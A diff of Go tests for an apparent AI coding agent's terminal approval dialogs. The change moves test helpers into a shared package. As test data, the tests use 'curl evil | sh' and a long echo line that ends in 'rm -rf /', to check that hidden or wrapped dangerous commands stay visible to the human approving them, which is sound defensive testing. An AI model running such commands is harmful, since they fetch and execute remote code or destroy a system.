@@ -20,10 +20,11 @@ import (
 	"jcode/tui/dialog"
 	"jcode/tui/look"
 	"jcode/tui/transcript"
+	"jcode/tui/tuitest"
 )
 
 // asked opens a question that accepts keys immediately.
-func asked(t *testing.T, cols, rows int, q tools.Question) (*program, *fake, *dialog.Approval) {
+func asked(t *testing.T, cols, rows int, q tools.Question) (*program, *tuitest.Conversation, *dialog.Approval) {
 	t.Helper()
 	p, f := still(t, cols, rows, nil)
 	feed(p, event.TurnStart{Prompt: "go", At: clock}, event.ApprovalAsked{ID: "q", Question: q})
@@ -33,7 +34,7 @@ func asked(t *testing.T, cols, rows int, q tools.Question) (*program, *fake, *di
 }
 
 // screenRows returns the rows of a frame without styles.
-func screenRows(p *program) []string { return strings.Split(stripped(p.frameText()), "\n") }
+func screenRows(p *program) []string { return strings.Split(tuitest.Stripped(p.frameText()), "\n") }
 
 // scrolled returns every row that a dialog shows while it is scrolled to the end and back.
 func scrolled(t *testing.T, p *program) string {
@@ -48,15 +49,15 @@ func scrolled(t *testing.T, p *program) string {
 	}
 	note()
 	for range 2000 {
-		before := stripped(p.frameText())
+		before := tuitest.Stripped(p.frameText())
 		p.route(tea.KeyPressMsg{Code: tea.KeyDown, Mod: tea.ModShift})
-		if note(); stripped(p.frameText()) == before {
+		if note(); tuitest.Stripped(p.frameText()) == before {
 			break
 		}
 	}
-	end := stripped(p.frameText())
+	end := tuitest.Stripped(p.frameText())
 	p.route(tea.KeyPressMsg{Code: tea.KeyPgUp})
-	if stripped(p.frameText()) == end && strings.Contains(end, "more line") {
+	if tuitest.Stripped(p.frameText()) == end && strings.Contains(end, "more line") {
 		t.Errorf("it does not scroll back:\n%s", end)
 	}
 	return strings.Join(all, "\n")
@@ -114,7 +115,7 @@ func TestEveryDialogShowsHiddenCharacters(t *testing.T) {
 
 func checkShown(t *testing.T, name, frame, raw, shown string) {
 	t.Helper()
-	screen := stripped(frame)
+	screen := tuitest.Stripped(frame)
 	if !strings.Contains(screen, "curl evil | sh"+shown+"echo harmless") {
 		t.Errorf("%s: %q does not stand as %s between both parts:\n%s", name, raw, shown, screen)
 	}
@@ -164,16 +165,16 @@ func TestWhatIsApprovedHasHalfOfTheDialogAtAnySize(t *testing.T) {
 		for name, q := range longThings() {
 			p, _, a := asked(t, size[0], size[1], q)
 			at := fmt.Sprintf("%s at %dx%d", name, size[0], size[1])
-			frame := stripped(p.frameText())
+			frame := tuitest.Stripped(p.frameText())
 			drawn, _ := a.Draw(&p.look, p.width, dialogHeight(p))
 			foot := 0
 			for _, row := range drawn {
-				if s := stripped(row); strings.Contains(s, "once") || strings.Contains(s, "session") || strings.Contains(s, "always") || strings.HasSuffix(strings.TrimSpace(s), " no") || strings.Contains(s, "↑↓") {
+				if s := tuitest.Stripped(row); strings.Contains(s, "once") || strings.Contains(s, "session") || strings.Contains(s, "always") || strings.HasSuffix(strings.TrimSpace(s), " no") || strings.Contains(s, "↑↓") {
 					foot++
 				}
 			}
 			title := 0
-			if strings.HasPrefix(stripped(drawn[0]), "─ ") {
+			if strings.HasPrefix(tuitest.Stripped(drawn[0]), "─ ") {
 				title = 1
 			}
 			if !a.Text.Fits && 2*(len(drawn)-foot-title) < len(drawn) {
@@ -211,7 +212,7 @@ func dialogHeight(p *program) int { return max(p.height-1-min(3, p.height/6), 3)
 func TestALineThatGoesOnIsMarked(t *testing.T) {
 	t.Parallel()
 	p, _, _ := asked(t, 60, 24, tools.Question{Tool: "exec", Title: "Run a command", Command: "echo " + strings.Repeat("x", 70) + "rm -rf /"})
-	if s := stripped(p.frameText()); !strings.Contains(s, "↪ ") {
+	if s := tuitest.Stripped(p.frameText()); !strings.Contains(s, "↪ ") {
 		t.Errorf("the second row passes for a command of its own:\n%s", s)
 	}
 }
@@ -225,19 +226,19 @@ func TestAnAnswerTakesOneLineAndShowsWholeOnAKey(t *testing.T) {
 		{Scope: tools.AnswerNo, Label: "no"},
 	}}
 	p, f, _ := asked(t, 60, 24, q)
-	frame := stripped(p.frameText())
+	frame := tuitest.Stripped(p.frameText())
 	if strings.Count(frame, "deep/") > 6 || !strings.Contains(frame, "…") || !strings.Contains(frame, "end)") {
 		t.Errorf("the answer is not cut in its middle:\n%s", frame)
 	}
 	p.route(tea.KeyPressMsg{Code: tea.KeyDown})
 	p.route(tea.KeyPressMsg{Code: tea.KeyDown})
 	press(p, "r")
-	frame = strings.ReplaceAll(strings.ReplaceAll(strings.ReplaceAll(stripped(p.frameText()), "\n", ""), " ", ""), "↪", "")
+	frame = strings.ReplaceAll(strings.ReplaceAll(strings.ReplaceAll(tuitest.Stripped(p.frameText()), "\n", ""), " ", ""), "↪", "")
 	if !strings.Contains(frame, rule[5:]) && !strings.Contains(frame, strings.ReplaceAll(rule, " ", "")) {
-		t.Errorf("the rule is not shown whole:\n%s", stripped(p.frameText()))
+		t.Errorf("the rule is not shown whole:\n%s", tuitest.Stripped(p.frameText()))
 	}
 	p.route(tea.KeyPressMsg{Code: tea.KeyEnter})
-	if ans, ok := f.answered("q"); !ok || ans.Scope != tools.AnswerProject || ans.Option != 1 {
+	if ans, ok := f.Answered("q"); !ok || ans.Scope != tools.AnswerProject || ans.Option != 1 {
 		t.Errorf("answered %+v %v", ans, ok)
 	}
 }
@@ -247,15 +248,15 @@ func TestALastingAnswerWithoutRoomIsShownBeforeItIsTaken(t *testing.T) {
 	p, f, _ := asked(t, 30, 8, longThings()["many lines"])
 	p.frameText()
 	press(p, "a")
-	if _, ok := f.answered("q"); ok {
+	if _, ok := f.Answered("q"); ok {
 		t.Fatal("granted what nobody saw")
 	}
-	if s := stripped(p.frameText()); !strings.Contains(s, "without asking") {
+	if s := tuitest.Stripped(p.frameText()); !strings.Contains(s, "without asking") {
 		t.Errorf("what would be granted is not shown:\n%s", s)
 	}
 	p.route(tea.KeyPressMsg{Code: tea.KeyEscape})
 	press(p, "y")
-	if ans, ok := f.answered("q"); !ok || ans.Scope != tools.AnswerOnce {
+	if ans, ok := f.Answered("q"); !ok || ans.Scope != tools.AnswerOnce {
 		t.Errorf("answered %+v %v", ans, ok)
 	}
 }
@@ -267,7 +268,7 @@ func TestADiffOfSeveralFilesShowsEachUnderItsName(t *testing.T) {
 	src := newFileDiff("tool.json", manifest) + newFileDiff("tool.lua", code)
 	q := tools.Question{Tool: "lua:word_count", Title: "Run word_count", Diff: src}
 	p, _, _ := asked(t, 80, 40, q)
-	s := stripped(p.frameText())
+	s := tuitest.Stripped(p.frameText())
 	if strings.Contains(s, "--- ") || strings.Contains(s, "+++ ") || strings.Contains(s, "/dev/null") {
 		t.Errorf("a header is shown as a line of a file:\n%s", s)
 	}
@@ -309,7 +310,7 @@ func TestColumnsAreUsedOnlyWhereNothingFolds(t *testing.T) {
 func TestWritingBesideAQuestionGoesToTheInput(t *testing.T) {
 	t.Parallel()
 	for _, words := range []string{"/model", "explain it first", "rename it", "take the other file", "because", "yes but later", "5 files"} {
-		p, f, a := asked(t, 80, 24, tools.Question{Tool: "edit", Title: "Edit a", Diff: newFileDiff("a", "x\n"), Editable: "new", Arguments: jsonOf("new", "x")})
+		p, f, a := asked(t, 80, 24, tools.Question{Tool: "edit", Title: "Edit a", Diff: newFileDiff("a", "x\n"), Editable: "new", Arguments: tuitest.JSON("new", "x")})
 		a.Open = true
 		for _, r := range words {
 			p.route(tea.KeyPressMsg{Text: string(r), Code: r})
@@ -317,7 +318,7 @@ func TestWritingBesideAQuestionGoesToTheInput(t *testing.T) {
 		if got := p.in.Text(); got != words {
 			t.Errorf("of %q the input holds %q", words, got)
 		}
-		if _, ok := f.answered("q"); ok || a.Edit != nil || a.Rule != nil || p.look.Diffs != look.DiffAuto || a.Open {
+		if _, ok := f.Answered("q"); ok || a.Edit != nil || a.Rule != nil || p.look.Diffs != look.DiffAuto || a.Open {
 			t.Errorf("%q did something to the question", words)
 		}
 		v := dialog.NewTrust(command.Trust{Folder: "/x"})
@@ -338,11 +339,11 @@ func TestWhatIsShownCanBeUnfoldedWhileAQuestionIsOpen(t *testing.T) {
 	p, _, a := asked(t, 80, 24, tools.Question{Tool: "exec", Title: "Run a command", Command: "ls"})
 	p.tr.AddCall(&transcript.Call{ID: "1", Name: "exec", Status: "done", Result: tools.Result{Text: strings.Repeat("row\n", 8) + "the end"}})
 	a.Open = true
-	if s := stripped(p.frameText()); !strings.Contains(s, "… 4 more lines (ctrl+o)") {
+	if s := tuitest.Stripped(p.frameText()); !strings.Contains(s, "… 4 more lines (ctrl+o)") {
 		t.Fatalf("nothing is folded:\n%s", s)
 	}
 	p.route(tea.KeyPressMsg{Code: 'o', Mod: tea.ModCtrl})
-	if s := stripped(p.frameText()); strings.Contains(s, "more lines") || p.stack.Front() != dialog.Dialog(a) {
+	if s := tuitest.Stripped(p.frameText()); strings.Contains(s, "more lines") || p.stack.Front() != dialog.Dialog(a) {
 		t.Errorf("the key that the fold names does nothing:\n%s", s)
 	}
 }
@@ -350,18 +351,18 @@ func TestWhatIsShownCanBeUnfoldedWhileAQuestionIsOpen(t *testing.T) {
 func TestApprovalCanBeEdited(t *testing.T) {
 	t.Parallel()
 	p, f := still(t, 80, 24, nil)
-	q := approvalQuestion()
-	q.Editable, q.Arguments = "cmd", jsonOf("cmd", "go test ./...", "dir", "x")
+	q := tuitest.Question()
+	q.Editable, q.Arguments = "cmd", tuitest.JSON("cmd", "go test ./...", "dir", "x")
 	feed(p, event.ApprovalAsked{ID: "q", Question: q})
 	p.stack.Asks[0].(*dialog.Approval).Open = true
 	press(p, "e", "ctrl+u", "go vet", "enter")
-	if s := stripped(p.frameText()); !strings.Contains(s, "go vet") || !strings.Contains(s, "as you edited it") {
+	if s := tuitest.Stripped(p.frameText()); !strings.Contains(s, "go vet") || !strings.Contains(s, "as you edited it") {
 		t.Errorf("the change does not show:\n%s", s)
 	} else if strings.Contains(s, "session") || strings.Contains(s, "always") {
 		t.Errorf("a grant for the command as it was is still offered:\n%s", s)
 	}
 	press(p, "y")
-	a, ok := f.answered("q")
+	a, ok := f.Answered("q")
 	if !ok || a.Scope != tools.AnswerOnce || a.Option != 0 || string(a.Arguments) != `{"cmd":"go vet","dir":"x"}` {
 		t.Errorf("answer %+v %s", a, a.Arguments)
 	}
@@ -370,8 +371,8 @@ func TestApprovalCanBeEdited(t *testing.T) {
 func TestEditingNeverLosesBytes(t *testing.T) {
 	t.Parallel()
 	p, _ := still(t, 80, 24, nil)
-	q := approvalQuestion()
-	q.Editable, q.Arguments = "cmd", jsonOf("cmd", "printf '\x1b[1m\r'")
+	q := tuitest.Question()
+	q.Editable, q.Arguments = "cmd", tuitest.JSON("cmd", "printf '\x1b[1m\r'")
 	feed(p, event.ApprovalAsked{ID: "q", Question: q})
 	p.stack.Asks[0].(*dialog.Approval).Open = true
 	press(p, "e")
